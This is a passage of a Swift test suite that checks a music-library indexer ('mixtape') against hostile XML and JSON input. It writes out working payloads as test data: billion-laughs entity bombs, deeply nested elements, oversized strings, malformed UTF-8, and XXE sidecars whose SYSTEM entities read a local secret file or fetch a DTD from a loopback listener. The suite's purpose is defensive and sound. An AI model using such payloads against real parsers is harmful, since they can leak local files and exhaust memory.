                doctype: laughs, name: "plain", extra: "\n\t\t\t<key>&lol9;</key><string>v</string>"))),
            ("billion laughs in a value", try scratch.write("laughs-value.xml", Self.library(doctype: laughs, name: "&lol9;"))),
        ]
        for (name, path) in cases {
            let result = try Self.indexHostile(name, path, in: scratch)
            let listing = try scratch.run(["search", "--json"]).stdout
            #expect(!listing.contains("lollol") && !listing.contains(String(repeating: "x", count: 70_000)),
                    "\(name): an entity was expanded (exit \(result.summary))")
            #expect(listing.utf8.count < 1 << 20, "\(name): the listing grew to \(listing.utf8.count) bytes")
        }
    }

    @Test("hostile XML: 100,000 nested elements (1,000,000 under stress), closed, in a track and a playlist")
    func deepNesting() throws {
        let scratch = try MalformedInputTests.goodIndex()
        let depth = Self.stress ? 1_000_000 : 100_000
        let dicts = "\n\t\t\t<key>Deep</key>" + String(repeating: "<dict><key>k</key>", count: depth) + "<string>bottom</string>"
            + String(repeating: "</dict>", count: depth)
        let arrays = "\n\t\t\t<key>Deeper</key>" + String(repeating: "<array>", count: depth) + "<integer>1</integer>"
            + String(repeating: "</array>", count: depth)
        let playlist = Self.library(name: "plain").replacingOccurrences(of: "\t<array>\n\t</array>", with: """
            \t<array><dict><key>Name</key><string>Deep playlist</string><key>Playlist Items</key>
            \(String(repeating: "<array>", count: depth))\(String(repeating: "</array>", count: depth))</dict></array>
            """)
        let cases: [(String, String)] = [
            ("\(depth) nested dicts in a track", Self.library(name: "plain", extra: dicts)),
            ("\(depth) nested arrays in a track", Self.library(name: "plain", extra: arrays)),
            ("\(depth) nested arrays as playlist items", playlist),
        ]
        for (number, (name, text)) in cases.enumerated() {
            try Self.indexHostile(name, try scratch.write("deep-\(number).xml", text), in: scratch)
        }
    }

    /// 20 MB in the regular suite (100 MB takes about 15 s in a debug build), 100 MB under
    /// stress; written in the scratch folder, never committed. Exit 0 or 65 are both fine; the
    /// memory bound is the same fixed 256 MB as for every hostile input.
    ///
    /// The reader refuses a value longer than 4 MiB (exit 65, at the value's position): once,
    /// such a value was accepted and cost about 13 times its size in memory on its way into
    /// the index (20 MB → 339 MB), so one hostile string could exhaust the machine.
    @Test("hostile XML: one huge <string> (20 MB, 100 MB under stress)")
    func hugeString() throws {
        let scratch = try MalformedInputTests.goodIndex()
        let megabytes = Self.stress ? 100 : 20
        let path = scratch.folder + "/huge-string.xml"
        let parts = Self.library(name: "@@NAME@@").components(separatedBy: "@@NAME@@")
        FileManager.default.createFile(atPath: path, contents: nil)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        try handle.write(contentsOf: Data(parts[0].utf8))
        let chunk = Data(String(repeating: "Long name ", count: 104_858).utf8)  // ~1 MiB
        for _ in 0..<megabytes { try handle.write(contentsOf: chunk) }
        try handle.write(contentsOf: Data(parts[1].utf8))
        try handle.close()
        let result = try Self.indexHostile("a \(megabytes) MB <string>", path, in: scratch, expect: [65])
        #expect(result.stderr.contains("longer than 4 MiB"), "\(result.stderr.prefix(300))")
    }

    @Test("hostile XML: invalid UTF-8 in the middle of a string of a full library exits 65")
    func invalidUTF8() throws {
        let scratch = try MalformedInputTests.goodIndex()
        let good = Array(try Data(contentsOf: URL(fileURLWithPath: MixtapeProcess.sample("Library.xml"))))
        let anchor = Array("Harbour Lights".utf8)
        let at = try #require(good.firstRange(of: anchor)).lowerBound + 8  // between "Harbour " and "Lights"
        let sequences: [(String, [UInt8])] = [
            ("a lone continuation byte", [0x80]),
            ("an overlong slash", [0xC0, 0xAF]),
            ("a UTF-16 surrogate (CESU-8)", [0xED, 0xA0, 0x80]),
            ("a cut 4-byte sequence", [0xF0, 0x9F, 0x98]),
            ("0xFF", [0xFF]),
            ("a code point past U+10FFFF", [0xF4, 0x90, 0x80, 0x80]),
        ]
        for (number, (name, bytes)) in sequences.enumerated() {
            var bad = good
            bad.insert(contentsOf: bytes, at: at)
            try Self.indexHostile("invalid UTF-8: \(name)", try scratch.write("bad-utf8-\(number).xml", bad),
                                                  in: scratch, expect: [65])
        }
    }

    @Test("hostile XML: UTF-16 declared as UTF-8, and UTF-8 with a BOM declared as UTF-16")
    func lyingEncodings() throws {
        // The known-good index is the Windows sample: its ids differ from Library.xml's, which
        // the mutants are made of, so items read from a mutant are told apart by source.
        let scratch = MixtapeProcess()
        try #require(try scratch.run(["index", MixtapeProcess.sample("Library-windows.xml")]).status == 0)
        let text = try String(contentsOfFile: MixtapeProcess.sample("Library.xml"), encoding: .utf8)
        #expect(text.hasPrefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"))
        let utf16LE = Array(text.utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let utf16BE = Array(text.utf16).flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
        let claimingUTF16 = text.replacingOccurrences(of: "encoding=\"UTF-8\"", with: "encoding=\"UTF-16\"")
        let cases: [(String, [UInt8])] = [
            ("UTF-16LE with a BOM, declared UTF-8", [0xFF, 0xFE] + utf16LE),
            ("UTF-16BE with a BOM, declared UTF-8", [0xFE, 0xFF] + utf16BE),
            ("UTF-16LE without a BOM, declared UTF-8", utf16LE),
            ("UTF-16BE without a BOM, declared UTF-8", utf16BE),
            ("UTF-8 with a BOM, declared UTF-16", [0xEF, 0xBB, 0xBF] + Array(claimingUTF16.utf8)),
        ]
        let control = MixtapeProcess()
        try #require(try control.run(["index", MixtapeProcess.sample("Library.xml")]).status == 0)
        let good = try control.run(["search", "--json"]).records
        let goodTitles = Set(good.compactMap { $0["title"] as? String })
        for (number, (name, bytes)) in cases.enumerated() {
            let path = try scratch.write("lying-\(number).xml", bytes)
            let result = try Self.indexHostile(name, path, in: scratch)
            if result.status == 0 {
                // Accepted only if read correctly (the bytes are unambiguous): no mojibake.
                let read = try scratch.run(["search", "--json"]).records.filter { $0["source"] as? String == path }
                #expect(Set(read.compactMap { $0["title"] as? String }) == goodTitles, "\(name): exit 0 but titles differ")
                try scratch.run(["sources", "remove", path])
            }
        }
    }

    @Test("hostile sidecars: external entities, an entity bomb and deep nesting are warnings, nothing read or fetched")
    func hostileSidecars() throws {
        let scratch = MixtapeProcess()
        let mp3 = try Self.tinyMP3(in: scratch)
        let listener = try ListeningSocket()
        let secret = "MIXTAPE-SECRET-" + UUID().uuidString
        let secretFile = try scratch.write("secret.txt", secret)
        let depth = Self.stress ? 1_000_000 : 100_000
        let laughs = "<!DOCTYPE x [<!ENTITY lol \"lol\">" + (1...9).map { level in
            "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }.joined() + "]>"
        let sidecars: [(String, String)] = [
            ("xxe.mp3.xmp", """
                <?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY leak SYSTEM "file://\(secretFile)">]>
                <x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
                <rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>&leak;</rdf:li>
                </rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>
                """),
            ("net.mp3.xmp", """
                <?xml version="1.0"?><!DOCTYPE x:xmpmeta SYSTEM "http://127.0.0.1:\(listener.port)/xmp.dtd">
                <x:xmpmeta xmlns:x="adobe:ns:meta/"/>
                """),
            ("xxe.nfo", "<?xml version=\"1.0\"?><!DOCTYPE song [<!ENTITY leak SYSTEM \"file://\(secretFile)\">]>"
                + "<song><title>&leak;</title></song>"),
            ("laughs.nfo", "<?xml version=\"1.0\"?>\(laughs)<song><title>&lol9;</title></song>"),
            ("deep.nfo", "<song>" + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth) + "</song>"),
            ("deep.info.json", "{\"title\": " + String(repeating: "[", count: depth) + String(repeating: "]", count: depth) + "}"),
            ("huge.info.json", "{\"title\": \"" + String(repeating: "a", count: 9 << 20) + "\"}"),
        ]
        let folder = scratch.folder + "/Music"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        for (name, text) in sidecars {
            let stem = name.components(separatedBy: ".").first!
            if !FileManager.default.fileExists(atPath: folder + "/" + stem + ".mp3") {
                try FileManager.default.copyItem(atPath: mp3, toPath: folder + "/" + stem + ".mp3")
            }
            _ = try scratch.write("Music/" + name, text)
        }
        let result = try BoundedRun.mixtape(["index", "--json", folder], in: scratch, timeout: Self.hostileTimeout)
        print("hostile sidecars: \(result.summary) in \(String(format: "%.2f", result.seconds)) s, peak RSS \(result.maxRSSKB / 1024) MB")
        #expect(result.status == 0, "\(result.summary): \(result.stderr.prefix(500))")
        #expect(!result.timedOut)
        #expect(result.maxRSSKB <= Self.memoryLimitKB, "peak RSS \(result.maxRSSKB / 1024) MB")
        #expect(listener.acceptAll() == 0, "mixtape connected to port \(listener.port)")
        try Self.expectAbsent(secret, after: result, in: scratch, "sidecars")
        let listing = try scratch.run(["search", "--json"]).stdout
        #expect(!listing.contains("lollol"))
    }

    // MARK: - Helpers

    /// Whether `stderr` names `path:line:column`, or `path at byte N` for a binary file.
    static func names(_ path: String, withPositionIn stderr: String) -> Bool {
        if let found = stderr.range(of: path + " at byte "), stderr[found.upperBound...].first?.isNumber == true { return true }
        var rest = Substring(stderr)
        while let found = rest.range(of: path + ":") {
            let after = rest[found.upperBound...]
            if after.prefixMatch(of: /\d+:\d+/) != nil { return true }
            rest = after
        }
        return false
    }

    /// Writes `bytes` and sets the modification time: each mutant gets its own, so the size
    /// and time stamp never match the good file's and every mutant is read.
    static func write(_ bytes: [UInt8], to path: String, modified: Double) throws {
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: modified)], ofItemAtPath: path)
    }

    /// Copies library.sqlite with its -wal and -shm (removing those the source lacks).
    static func copyIndex(from: String, to: String) throws {
        try FileManager.default.createDirectory(atPath: to, withIntermediateDirectories: true)
        for suffix in ["", "-wal", "-shm"] {
            let source = from + "/library.sqlite" + suffix, target = to + "/library.sqlite" + suffix
            try? FileManager.default.removeItem(atPath: target)
            if FileManager.default.fileExists(atPath: source) { try FileManager.default.copyItem(atPath: source, toPath: target) }
        }
    }

    static func fnv1a(_ text: String) -> UInt64 {
        var hash: UInt64 = 0xCBF2_9CE4_8422_2325
        for byte in text.utf8 { hash = (hash ^ UInt64(byte)) &* 0x100_0000_01B3 }
        return hash
    }
}

/// A truncation or a single bit flip.
struct Mutant: CustomStringConvertible {
    enum Kind { case truncate, flip(bit: Int) }
    var kind: Kind
    var offset: Int

    /// `count` truncations then `count` bit flips at offsets drawn from `random`.
    static func series(count: Int, size: Int, using random: inout SplitMix64) -> [Mutant] {
        guard size > 0 else { return [] }
        let truncations = (0..<count).map { _ in Mutant(kind: .truncate, offset: Int(random.next() % UInt64(size))) }
        let flips = (0..<count).map { _ -> Mutant in
            let offset = Int(random.next() % UInt64(size))
            return Mutant(kind: .flip(bit: Int(random.next() % 8)), offset: offset)
        }
        return truncations + flips
    }

    func apply(to bytes: [UInt8]) -> [UInt8] {
        switch kind {
        case .truncate: return Array(bytes.prefix(offset))
        case .flip(let bit):
            var copy = bytes
            copy[offset] ^= UInt8(1) << UInt8(bit)
            return copy
        }
    }

    var description: String {
        switch kind {
        case .truncate: "truncated to \(offset) bytes"
        case .flip(let bit): "bit \(bit) flipped at offset \(offset)"
        }
    }

    var fileTag: String {
        switch kind {
        case .truncate: "truncated-\(offset)"
        case .flip(let bit): "flip-\(offset)-\(bit)"
        }
    }
}

/// One `mixtape` run with a time limit, its exit status or signal, and its peak resident
/// memory. The peak comes from GNU time (`/usr/bin/time -f %M`, a build dependency): the
/// rusage `wait4` gives for a child started with posix_spawn also counts the test process's
/// own resident memory, since glibc spawns with CLONE_VM and Linux keeps the high-water mark
/// across exec. Without GNU time, /proc/PID/status VmHWM is sampled instead (a lower bound).
/// Output goes through files in the scratch folder. A run over the time limit or above
/// `MalformedCorpusTests.memoryKillKB` is killed with its process group.
struct BoundedRun {
    var status: Int32?
    var signal: Int32?
    var timedOut = false
    var killedForMemory = false
    var seconds: Double = 0
    var maxRSSKB = 0
    var stdout = ""
    var stderr = ""

    var summary: String {
        if timedOut { return "timed out" }
        if killedForMemory { return "killed above \(MalformedCorpusTests.memoryKillKB / 1024) MB" }
        if let signal { return "killed by signal \(signal)" }
        return "exit \(status ?? -1)"
    }

    var jsonObject: [String: Any]? {
        try? JSONSerialization.jsonObject(with: Data(stdout.utf8)) as? [String: Any]
    }

    static let timeTool: String? = FileManager.default.isExecutableFile(atPath: "/usr/bin/time") ? "/usr/bin/time" : nil

    static func mixtape(_ arguments: [String], in scratch: MixtapeProcess, timeout: Double) throws -> BoundedRun {
        var environment = ProcessInfo.processInfo.environment
        environment["MIXTAPE_LIBRARY"] = scratch.library
        environment["NO_COLOR"] = "1"
        let outPath = scratch.folder + "/.bounded-run.out", errPath = scratch.folder + "/.bounded-run.err"
        let rssPath = scratch.folder + "/.bounded-run.rss"
        try? FileManager.default.removeItem(atPath: rssPath)
        var command = [MixtapeProcess.binary] + arguments
        if let timeTool { command = [timeTool, "-f", "%M", "-o", rssPath, "--"] + command }

        #if canImport(Darwin)
        var actions: posix_spawn_file_actions_t?
        var attributes: posix_spawnattr_t?
        #else
        var actions = posix_spawn_file_actions_t()
        var attributes = posix_spawnattr_t()
        #endif
        posix_spawn_file_actions_init(&actions)
        defer { posix_spawn_file_actions_destroy(&actions) }
        posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0)
        posix_spawn_file_actions_addopen(&actions, 1, outPath, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        posix_spawn_file_actions_addopen(&actions, 2, errPath, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        posix_spawnattr_init(&attributes)
        defer { posix_spawnattr_destroy(&attributes) }
        posix_spawnattr_setflags(&attributes, Int16(POSIX_SPAWN_SETPGROUP))
        posix_spawnattr_setpgroup(&attributes, 0)
        let argv: [UnsafeMutablePointer<CChar>?] = command.map { strdup($0) } + [nil]
        let envp: [UnsafeMutablePointer<CChar>?] = environment.map { strdup("\($0.key)=\($0.value)") } + [nil]
        defer { for pointer in argv + envp { free(pointer) } }

        let started = Date()
        var pid: pid_t = 0
        let spawned = posix_spawn(&pid, command[0], &actions, &attributes, argv, envp)
        guard spawned == 0 else { throw POSIXError(POSIXErrorCode(rawValue: spawned) ?? .EIO) }

        var run = BoundedRun()
        var status: Int32 = 0
        var usage = rusage()
        var polls = 0
        var sampledKB = 0
        var target: pid_t?  // mixtape itself: the child of GNU time, or the child
        while true {
            let reaped = wait4(pid, &status, WNOHANG, &usage)
            if reaped == pid { break }
            if reaped == -1 && errno != EINTR { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .ECHILD) }
            polls += 1
            if target == nil { target = timeTool == nil ? pid : firstChild(of: pid) }
            if let target, polls % 3 == 0 {
                let memory = memoryKB(of: target)
                sampledKB = max(sampledKB, memory.peak)
                if memory.current > MalformedCorpusTests.memoryKillKB { run.killedForMemory = true }
            }
            if Date().timeIntervalSince(started) > timeout { run.timedOut = true }
            if run.timedOut || run.killedForMemory {
                kill(-pid, SIGKILL)
                while wait4(pid, &status, 0, &usage) == -1 && errno == EINTR {}
                break
            }
            usleep(polls < 200 ? 1000 : 5000)
        }
        run.seconds = Date().timeIntervalSince(started)
        if status & 0x7F == 0 {
            run.status = (status >> 8) & 0xFF
        } else {
            run.signal = status & 0x7F
        }
        run.maxRSSKB = sampledKB
        if timeTool != nil {
            // GNU time writes "Command terminated by signal N" (and exits 128+N) before the
            // format line when the command was killed.
            let report = (try? String(contentsOfFile: rssPath, encoding: .utf8)) ?? ""
            let lines = report.split(separator: "\n")
            if let last = lines.last, let kilobytes = Int(last.trimmingCharacters(in: .whitespaces)) {
                run.maxRSSKB = max(kilobytes, sampledKB)
            }
            if let line = lines.first(where: { $0.hasPrefix("Command terminated by signal ") }),
               let number = Int32(line.dropFirst("Command terminated by signal ".count)) {
                run.status = nil
                run.signal = number
            }
        }
        run.stdout = String(decoding: FileManager.default.contents(atPath: outPath) ?? Data(), as: UTF8.self)
        run.stderr = String(decoding: FileManager.default.contents(atPath: errPath) ?? Data(), as: UTF8.self)
        return run
    }

    /// The first child of a process, from /proc (nil before it has one or without /proc).
    static func firstChild(of pid: pid_t) -> pid_t? {
        guard let text = try? String(contentsOfFile: "/proc/\(pid)/task/\(pid)/children", encoding: .utf8) else { return nil }
        return text.split(separator: " ").first.flatMap { pid_t($0) }
    }

    /// VmRSS and VmHWM of a running process in kB, from /proc (zeros without /proc).
    static func memoryKB(of pid: pid_t) -> (current: Int, peak: Int) {
        guard let status = try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8) else { return (0, 0) }
        func field(_ name: String) -> Int {
            guard let line = status.split(separator: "\n").first(where: { $0.hasPrefix(name) }) else { return 0 }
            return Int(line.split(separator: " ", omittingEmptySubsequences: true).dropFirst().first ?? "") ?? 0
        }
        return (field("VmRSS:"), field("VmHWM:"))
    }
}

/// A TCP socket listening on 127.0.0.1 at a free port, to prove nothing connects to it.
final class ListeningSocket {
    let descriptor: Int32
    let port: UInt16

    init() throws {
        #if canImport(Darwin)
        let fd = socket(AF_INET, SOCK_STREAM, 0)
        #else
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #endif
        guard fd >= 0 else { throw POSIXError(.EIO) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = 0
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { raw in
                bind(fd, raw, length) == 0 && listen(fd, 64) == 0 && getsockname(fd, raw, &length) == 0
            }
        }
        guard bound else {
            close(fd)
            throw POSIXError(.EADDRNOTAVAIL)
        }
        _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
        descriptor = fd
        port = UInt16(bigEndian: address.sin_port)
    }

    /// Connections made since the last call (a connection completes in the kernel and waits
    /// in the backlog even if nobody accepts it, so none is missed).
    func acceptAll() -> Int {
        var count = 0
        while true {
            let connection = accept(descriptor, nil, nil)
            if connection < 0 { return count }
            close(connection)
            count += 1
        }
    }

    /// Connects to the socket once and checks that `acceptAll` counts it.
    func selfTest() -> Bool {
        #if canImport(Darwin)
        let client = socket(AF_INET, SOCK_STREAM, 0)
        #else
        let client = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #endif
        defer { close(client) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        let connected = withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(client, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0
            }
        }
        return connected && acceptAll() == 1
    }

    deinit { close(descriptor) }
}
